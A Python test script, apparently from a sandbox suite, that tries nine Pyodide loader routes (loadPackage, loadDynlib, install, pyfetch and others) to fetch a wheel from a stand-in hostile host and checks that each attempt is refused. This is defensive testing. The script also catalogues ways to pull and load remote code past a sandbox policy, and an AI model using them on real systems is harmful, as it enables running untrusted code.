# promise: P2
# defence: policy
# control: policy seal lockdown globals
# Pyodide's own loader asks fetch when it is called, in promises that settle after the program.
import os

import pyodide_js
from reach import go_on_after_the_end, linger

ADDRESS = "http://package.hostile.invalid/hostile-1-py3-none-any.whl"

go_on_after_the_end()
for way, ask in (
    ("loadPackage", lambda: pyodide_js.loadPackage(ADDRESS)),
    ("loadPackage by name", lambda: pyodide_js.loadPackage("micropip")),
    ("loadPackagesFromImports", lambda: pyodide_js.loadPackagesFromImports("import numpy")),
    ("loadBinaryFile", lambda: pyodide_js._api.loadBinaryFile("hostile.whl", ADDRESS)),
    ("loadBinaryFile with a base", lambda: pyodide_js._api.loadBinaryFile(ADDRESS, "")),
    ("install", lambda: pyodide_js._api.install(ADDRESS)),
    ("loadDynlib", lambda: pyodide_js._api.loadDynlib(ADDRESS)),
    ("loadDynamicLibrary", lambda: pyodide_js._module.loadDynamicLibrary(ADDRESS)),
    ("runPythonAsync", lambda: pyodide_js.runPythonAsync("import pyodide.http; await pyodide.http.pyfetch('" + ADDRESS + "')")),
):
    try:
        ask()
        print(f"refused: {way}: a promise")
    except BaseException as error:
        print(f"refused: {way}: {type(error).__name__}")
linger()
print("held", flush=True)
# The loader says what it loads when it comes to it, which may be after the program's last line.
os.dup2(os.open(os.devnull, os.O_WRONLY), 1)
